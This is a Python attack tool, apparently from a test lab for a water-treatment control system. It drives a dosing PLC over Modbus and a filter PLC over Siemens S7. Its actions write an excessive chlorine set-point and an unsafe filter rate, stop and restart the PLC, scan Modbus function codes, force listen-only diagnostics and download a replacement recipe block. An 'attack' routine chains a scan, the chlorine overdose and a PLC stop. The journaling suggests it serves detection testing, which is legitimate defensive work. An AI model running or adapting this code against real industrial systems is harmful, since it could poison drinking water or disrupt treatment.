"""The rogue laptop: what an intruder with a network port and two free libraries can do to the plant.

Every request is journaled, answered or not, so that a test can see when the answers stopped coming.
"""

import argparse
import struct
import time

from journal import Journal
from modbus_raw import RawModbus
from plant import (
    CHLORINE_SET_POINT,
    DB_RECIPE,
    DB_SET_POINTS,
    FILTER_RATE_AT,
    HOLDING_COUNT,
    HOLDING_START,
    INPUT_COUNT,
    MODBUS_UNIT,
    RECIPE_SIZE,
)
from s7_session import S7Session

# What a scanner sends with a function code whose meaning it does not know: address 0, quantity 1.
SCAN_BODY = bytes((0, 0, 0, 1))
S7_STOP, S7_CONTROL, S7_REQUEST_DOWNLOAD = 0x29, 0x28, 0x1A
PLC_BLOCK_DB_HEADER = 36


class Rogue:
    """The actions, one method each; `options` holds the words of the command line."""

    def __init__(self, options):
        self._options = options
        self._journal = Journal(options.log, "rogue")
        self._modbus = RawModbus(options.modbus, options.timeout)
        self._s7 = S7Session(options.s7, options.timeout, self._journal)

    def write_setpoint(self):
        """Modbus 6 and 16 in turn to the chlorine set-point."""
        value, speed = self._options.value, self._options.speed
        single = struct.pack(">BHH", 6, CHLORINE_SET_POINT, value)
        both = struct.pack(">BHHBHH", 16, CHLORINE_SET_POINT, 2, 4, value, speed)
        turns = {"6": [(6, single, [value])], "16": [(16, both, [value, speed])]}
        turns["both"] = turns["6"] + turns["16"]
        chosen = turns[self._options.function]
        for turn in self._ticks():
            function, pdu, values = chosen[turn % len(chosen)]
            facts = {"address": CHLORINE_SET_POINT, "quantity": len(values), "values": values}
            self._send(pdu, operation="write", function=function, **facts)

    def s7_write(self):
        """Filter rate in DB1 set to what the sand bed cannot take."""
        data = struct.pack(">f", self._options.rate)
        facts = {"operation": "write", "function": 5, "area": "DB", "block": DB_SET_POINTS}
        facts |= {"address": FILTER_RATE_AT, "quantity": len(data), "values": data.hex()}
        for _ in self._ticks():
            self._s7.call(lambda client: client.db_write(DB_SET_POINTS, FILTER_RATE_AT, bytearray(data)), **facts)

    def plc_stop(self):
        """S7 stop, a pause, and a hot start."""
        self._s7.call(lambda client: client.plc_stop(), operation="mode", function=S7_STOP, detail="stop")
        time.sleep(self._options.pause)
        self._s7.call(lambda client: client.plc_hot_start(), operation="mode", function=S7_CONTROL, detail="hot start")

    def function_scan(self):
        """Every Modbus function code from 1 to 127, to see what answers."""
        for function in range(1, 128):
            self._send(bytes((function,)) + SCAN_BODY, operation="scan", function=function)
            time.sleep(self._options.every_ms / 1000)

    def read_sweep(self):
        """Reads holding and input registers far and wide, in steps of the block size."""
        for function, step in ((3, HOLDING_COUNT), (4, INPUT_COUNT)):
            for address in range(0, HOLDING_START + 5 * step, step):
                pdu = struct.pack(">BHH", function, address, step)
                self._send(pdu, operation="read", function=function, address=address, quantity=step)
                time.sleep(self._options.every_ms / 1000)

    def restart_comms(self):
        """Modbus diagnostics: restart communications, then force listen only, then restart again."""
        for sub_function in (1, 4, 1):
            facts = {"operation": "mode", "function": 8, "sub_function": sub_function}
            self._send(struct.pack(">BHH", 8, sub_function, 0), **facts)

    def program_download(self):
        """Replaces the backwash recipe: S7 request download, then blocks as the PLC asks for them."""
        block = recipe_block(self._options.size)
        facts = {"operation": "program", "function": S7_REQUEST_DOWNLOAD, "area": "DB", "block": DB_RECIPE}
        self._s7.call(lambda client: client.download(bytearray(block), DB_RECIPE), quantity=len(block), **facts)

    def attack(self):
        """The whole story: look around, drive the chlorine up, stop the filter line."""
        self.function_scan()
        self.write_setpoint()
        self._s7.call(lambda client: client.plc_stop(), operation="mode", function=S7_STOP, detail="stop")

    def close(self):
        """Closes both connections, as a program that ends does."""
        self._modbus.close()
        self._s7.close()

    def _send(self, pdu, **facts):
        with self._journal.request(server=self._modbus.host, protocol="modbus", unit=MODBUS_UNIT, **facts) as record:
            self._modbus.exchange(pdu, record)

    def _ticks(self):
        """Counts up every `every_ms` until `duration` is over, at least once."""
        began = due = time.monotonic()
        turn = 0
        while turn == 0 or due < began + self._options.duration:
            time.sleep(max(0.0, due - time.monotonic()))
            yield turn
            turn += 1
            due = max(due + self._options.every_ms / 1000, time.monotonic())


def recipe_block(size):
    """A data block in load-memory form: a 36-byte header whose signature and lengths are right, then data."""
    body = bytes(index % 251 for index in range(size))
    header = bytearray(PLC_BLOCK_DB_HEADER)
    # Signature `pp`, version 1, attributes 1, language DB (5), type DB (10), number, length in load memory.
    struct.pack_into(">2sBBBBHI", header, 0, b"pp", 1, 1, 5, 10, DB_RECIPE, PLC_BLOCK_DB_HEADER + size)
    struct.pack_into(">H", header, 34, size)
    return bytes(header) + body


ACTIONS = {
    name.replace("_", "-"): getattr(Rogue, name)
    for name in (
        "write_setpoint", "s7_write", "plc_stop", "function_scan", "read_sweep", "restart_comms",
        "program_download", "attack",
    )
}  # fmt: skip


def main():
    """Does one action and ends."""
    described = "\n".join(f"  {name:17} {action.__doc__}" for name, action in ACTIONS.items())
    arguments = argparse.ArgumentParser(
        description=__doc__, epilog=f"actions:\n{described}", formatter_class=argparse.RawDescriptionHelpFormatter
    )
    arguments.add_argument("action", choices=ACTIONS, metavar="ACTION")
    arguments.add_argument("--modbus", required=True, help="address of the dosing PLC")
    arguments.add_argument("--s7", required=True, help="address of the filter PLC")
    arguments.add_argument("--log", required=True, help="journal, JSON lines")
    arguments.add_argument("--timeout", type=float, default=0.5, help="seconds to wait for an answer")
    arguments.add_argument("--duration", type=float, default=5.0, help="seconds that repeated actions go on")
    arguments.add_argument("--every-ms", type=float, default=50.0, help="milliseconds between requests")
    arguments.add_argument("--value", type=int, default=850, help="chlorine set-point written, mg/l x 100")
    arguments.add_argument("--speed", type=int, default=1450, help="pump speed written with function 16")
    arguments.add_argument("--function", choices=("6", "16", "both"), default="both", help="for write-setpoint")
    arguments.add_argument("--rate", type=float, default=620.0, help="filter rate written by s7-write, m3/h")
    arguments.add_argument("--pause", type=float, default=3.0, help="seconds between stop and start")
    arguments.add_argument("--size", type=int, default=RECIPE_SIZE // 2, help="bytes of the block to download")
    options = arguments.parse_args()
    rogue = Rogue(options)
    try:
        ACTIONS[options.action](rogue)
    finally:
        rogue.close()


if __name__ == "__main__":
    main()
